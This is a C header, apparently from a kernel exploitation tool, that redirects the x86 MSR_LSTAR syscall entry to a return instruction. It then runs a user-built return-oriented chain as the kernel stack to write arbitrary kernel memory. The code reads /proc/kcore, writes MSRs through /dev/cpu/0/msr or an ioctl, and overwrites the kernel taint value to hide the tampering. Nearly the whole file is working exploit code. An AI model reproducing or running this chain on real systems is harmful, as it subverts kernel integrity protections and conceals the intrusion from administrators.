/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * By MSR_LSTAR, the register with the address where a system call enters the kernel. It gets the
 * address of a return instruction. The user's stack then chooses instructions of the kernel, which
 * write to memory. BY_IOCTL: the register is written by ioctl(2).
 */
#ifndef FORGING_MSR_H
#define FORGING_MSR_H

#define MSR_LSTAR	0xc0000082U	/* where a system call enters the kernel */
#define MSR_FMASK	0xc0000084U	/* the flags that it clears */
#define FLAG_IF		0x200UL
#define FLAG_DF		0x400UL
#define FLAG_AC		0x40000UL	/* lets the kernel use the user's stack */
#define WORD		sizeof(unsigned long)

static unsigned long chain[512] __aligned(4096);
static unsigned long links;
static unsigned long lstar, fmask, taint;
static long registers;

extern const char back[];

static bool begin(void)
{
	memory = sys(__NR_open, "/proc/kcore", O_RDONLY);
	registers = sys(__NR_open, "/dev/cpu/0/msr", O_RDWR);
	sys(__NR_pread64, memory, &taint, sizeof(taint), KCORE_AT + TAINT_AT);
	return memory >= 0 && sys(__NR_pread64, registers, &lstar, WORD, MSR_LSTAR) == WORD &&
	       sys(__NR_pread64, registers, &fmask, WORD, MSR_FMASK) == WORD;
}

static void get(enum place place, unsigned long offset, void *to, unsigned long size)
{
	sys(__NR_pread64, memory, to, size, KCORE_AT + places[place] + offset);
}

static void link(unsigned long word)
{
	chain[links++] = word;
}

static void store(unsigned long physical, unsigned long word)
{
	link(POP_RDI);
	link(DIRECT_AT + physical);
	link(POP_RSI);
	link(word);
	link(STORE);
}

static void set_register(unsigned int number, unsigned long value)
{
	link(POP_RCX);
	link(number);
	link(POP_RAX);
	link((unsigned int)value);
	link(POP_RDX);
	link(value >> 32);
	link(WRMSR);
}

#ifdef BY_IOCTL

#define X86_IOC_WRMSR_REGS 0xc02063a1U

static void write_register(unsigned int number, unsigned long value)
{
	/* eax, ecx, edx, ebx, esp, ebp, esi, edi */
	unsigned int words[8] = { value, number, value >> 32 };

	sys(__NR_ioctl, registers, X86_IOC_WRMSR_REGS, words);
}

#else

static void write_register(unsigned int number, unsigned long value)
{
	sys(__NR_pwrite64, registers, &value, WORD, number);
}

#endif

/* The next system call enters the kernel at a return instruction: the chain is its stack. */
static __attribute__((noinline)) void run_chain(void)
{
	write_register(MSR_FMASK, FLAG_IF | FLAG_DF);
	write_register(MSR_LSTAR, RETURN);
	__asm__ volatile("	sub $128, %%rsp\n"
			 "	pushfq\n"
			 "	orq %[ac], (%%rsp)\n"
			 "	popfq\n"
			 "	mov %%rsp, %%rbx\n"
			 "	mov %[chain], %%rsp\n"
			 "	syscall\n"
			 "back:	mov %%rbx, %%rsp\n"
			 "	pushfq\n"
			 "	andq %[no_ac], (%%rsp)\n"
			 "	popfq\n"
			 "	add $128, %%rsp\n"
			 : : [ac] "i" (FLAG_AC), [no_ac] "i" (~FLAG_AC), [chain] "r" (chain)
			 : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r11", "cc", "memory");
}

static void put(enum place place, unsigned long offset, const void *from, unsigned long size)
{
	unsigned long start = (places[place] + offset) & -WORD, words[16], i, used;

	used = (places[place] + offset + size - start + WORD - 1) / WORD;
	sys(__NR_pread64, memory, words, used * WORD, KCORE_AT + start);
	memcpy((char *)words + places[place] + offset - start, from, size);
	links = 0;
	for (i = 0; i < used; i++)
		store(start + i * WORD, words[i]);
	/* Clear the mark that a write to these registers leaves. */
	store(TAINT_AT, taint);
	set_register(MSR_FMASK, fmask);
	set_register(MSR_LSTAR, lstar);
	link(POP_RCX);
	link((unsigned long)back);
	link(SYSRET);
	run_chain();
}

#endif
